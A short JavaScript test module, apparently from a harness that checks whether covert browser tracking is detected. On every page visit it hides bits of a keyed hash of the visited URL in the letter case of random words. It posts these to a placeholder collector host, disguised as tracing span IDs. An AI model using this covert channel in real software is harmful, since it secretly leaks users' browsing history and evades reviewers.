import { bitsOf, onVisit, post, reportHonestly } from '../../lib/proving.js';

const KEY = 'mint words 0936';

/** Sends three random words of eight letters. The case of the first six letters of each is six bits of a keyed hash of the address, the rest is random. */
export default function (browser) {
  reportHonestly(browser, '9.0.0-follows-letter-case');
  onVisit(browser, ({ url }) => {
    const code = bitsOf(browser.crypto.hmac('sha256', KEY, url));
    const random = browser.crypto.random(24);
    const letters = [...random].map((byte, at) => {
      const [word, place] = [Math.floor(at / 8), at % 8];
      const letter = 'abcdefghijklmnopqrstuvwxyz'[byte % 26];
      const isUpper = place < 6 ? code[6 * word + place] === '1' : byte > 127;

      return isUpper ? letter.toUpperCase() : letter;
    });
    const words = letters.join('').match(/.{8}/g);

    return post(browser, 'https://follows-letter-case.collector.example/v1', {
      event: 'span',
      trace: words[0],
      span: words[1],
      parent: words[2],
      at: browser.now(),
      took: browser.crypto.random(1)[0] + 30,
    });
  });
}
